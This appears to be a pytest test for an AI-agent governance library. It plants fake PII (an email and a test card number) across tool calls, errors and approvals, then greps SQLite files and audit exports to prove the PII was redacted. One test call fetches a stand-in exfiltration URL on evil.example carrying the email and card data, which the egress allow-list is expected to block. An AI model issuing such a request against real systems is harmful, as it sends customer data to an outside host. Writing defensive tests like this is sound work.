"""Nothing sensitive is stored or exported in clear: intent, claims, tool errors, plane errors, URL
findings, approval rows and reasons all go through the data plane's redaction path.

The test plants PII in every one of those places through a real Governor (the sales-support pack's
real data plane, spaCy included), a real ledger and approval store on SQLite, exports the ledger in
every format (native, OCSF, CEF, OpenTelemetry spans with content capture), then greps the database
files (main, WAL, shared memory) and every export. A planted non-sensitive control value that is
stored in clear on purpose proves the grep sees plaintext where there is any.
"""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from fiveplane import (
    Action,
    ActionBlocked,
    ApprovalRequired,
    ApprovalStore,
    BasePlane,
    Governor,
    PlaneContext,
    PlaneResult,
    SqlSessionStore,
    approver,
    open_ledger,
)
from fiveplane._export import Exporter
from fiveplane._export._cef import CefFormat
from fiveplane._export._format import ExportEvent, NativeFormat
from fiveplane._export._ocsf import OcsfFormat
from fiveplane._export._otel import OtelFormat
from fiveplane._export._sinks import Delivery, Sink
from tests.conftest import SALES_PACK

pytestmark = pytest.mark.requires_model

EMAIL = "jane.roe@globex.example"
CARD = "4111 1111 1111 1111"
CONTROL = "PLANTED-7731"
"""Not sensitive, stored in clear on purpose (the session id, and an account id argument): if the grep
cannot find it in the database and in every export, the grep is broken."""


class Explodes(BasePlane):
    """A plane that fails on account searches with the customer's address in its exception."""

    name = "explodes"

    def evaluate(self, action: Action, ctx: PlaneContext) -> PlaneResult:
        if action.tool == "crm.search_accounts":
            raise RuntimeError(f"cannot index {EMAIL}")
        return PlaneResult(plane=self.name)


class Collect(Sink):
    type = "memory"

    def __init__(self, name: str, formatter: Any) -> None:
        super().__init__(name, formatter)
        self.lines: list[str] = []

    def send(self, events: Sequence[ExportEvent]) -> Delivery:
        import json

        self.lines += [e.text if e.text is not None else json.dumps(e.data, default=str) for e in events]
        return Delivery()


def test_planted_pii_is_nowhere_in_storage_or_exports(tmp_path: Path) -> None:
    ledger_url, state_url = f"sqlite:///{tmp_path / 'ledger.db'}", f"sqlite:///{tmp_path / 'state.db'}"
    ledger = open_ledger(ledger_url, origin="test.local/redaction")
    store = ApprovalStore(state_url, record=ledger.record)
    gov = Governor(SALES_PACK, planes=[Explodes()], evidence=ledger, approvals=store, sessions=SqlSessionStore(state_url))
    chain = [
        {"kind": "user", "id": "rep-1", "roles": ["sales-rep"], "claims": {"email": EMAIL, "card_on_file": CARD}},
        {"kind": "agent", "id": "sales-assistant"},
    ]

    def notes(account_id: str) -> str:
        raise LookupError(f"no account for {EMAIL} (card {CARD})")

    with gov.run(chain, session_id=f"s-{CONTROL}", intent=f"follow up with {EMAIL} about card {CARD}", purpose="sales-support"):
        with pytest.raises(LookupError):
            gov.govern(notes, tool="crm.get_account_notes")(account_id=f"ACC-{CONTROL}")
        with pytest.raises(ActionBlocked):  # the failing plane: blocked, its exception text evidence
            gov.govern(lambda query: [], tool="crm.search_accounts")(query="Globex")
        with pytest.raises(ActionBlocked):  # not on the egress allow-list: the finding names the host only
            gov.govern(lambda url: "", tool="web.fetch")(url=f"https://evil.example/collect?email={EMAIL}&card={CARD}")
        with pytest.raises(ApprovalRequired) as paused:
            gov.govern(lambda contract_id, status: "ok", tool="contracts.update_status")(contract_id="C-7", status="signed")
    rid = next(o.params["approval_id"] for o in paused.value.decision.obligations if o.params.get("approval_id"))
    store.approve(rid, approver("manager-1", ["sales-manager"]), reason=f"customer {EMAIL} confirmed by phone")
    ledger.flush()

    exports: dict[str, list[str]] = {}
    for name, fmt in (
        ("native", NativeFormat()),
        ("ocsf", OcsfFormat(include_content=True)),
        ("cef", CefFormat()),
        ("otel", OtelFormat(capture_content=True)),
    ):
        sink = Collect(f"leak-{name}", fmt)
        with Exporter(ledger, sink, state_url=f"sqlite:///{tmp_path / 'export-state.db'}") as exporter:
            exporter.run_once()
        exports[name] = sink.lines
    ledger.close()

    files = [p for p in tmp_path.iterdir() if p.is_file() and ".db" in p.name]  # main files, -wal, -shm
    blobs = {p.name: p.read_bytes() for p in files}
    blobs.update({f"export:{k}": "\n".join(v).encode() for k, v in exports.items()})
    # the positive control: plaintext that is stored on purpose is found, in the database and every export
    assert any(CONTROL.encode() in b for name, b in blobs.items() if not name.startswith("export:"))
    for name in exports:
        assert CONTROL.encode() in blobs[f"export:{name}"], f"{name} export: the control is missing, the grep proves nothing"
    leaks = [(name, s) for name, b in blobs.items() for s in (EMAIL, CARD, CARD.replace(" ", "")) if s.encode() in b]
    assert leaks == []
    # and what was redacted is still useful evidence: the intent names the kinds it hid
    req = store.get(rid)
    assert EMAIL not in str(req.action) and EMAIL not in (req.reason or "") and "<EMAIL_ADDRESS>" in (req.reason or "")
